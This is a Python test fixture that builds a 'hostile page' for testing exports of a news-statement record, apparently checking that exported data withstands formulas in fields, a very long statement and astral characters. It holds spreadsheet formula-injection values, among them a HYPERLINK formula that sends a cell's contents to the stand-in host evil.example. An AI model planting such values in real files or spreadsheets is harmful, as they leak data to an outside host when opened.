"""A hostile page for exports: formulas, a long statement, astral characters."""

import msgspec

from onrecord.records import Page, Reading, Statement
from sample import article_of, bare

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LONG = "word " * 400 + "end."


def hostile() -> Reading:
    """Formulas where names and quotations stand, a long statement, and astral characters."""
    text = f"{FORMULA} said a \U0001f6a2 captain. {LONG}"
    article = article_of(text)
    known = {"outlet": FORMULA, "title": "+1+1", "byline": "@SUM(A1)"}
    start = text.index(LONG)
    said = Statement(
        id="s1",
        content=[(0, len(FORMULA))],
        cue=[(len(FORMULA) + 1, len(FORMULA) + 5)],
        source=[],
        kind="direct",
    )
    long = Statement(id="s2", content=[(start, len(text))], cue=[], source=[], kind="indirect")
    report = bare(msgspec.structs.replace(article, **known), statements=[said, long])
    return Reading(page=Page.of(text, path="-2+3.txt"), furniture=[], reports=[report])
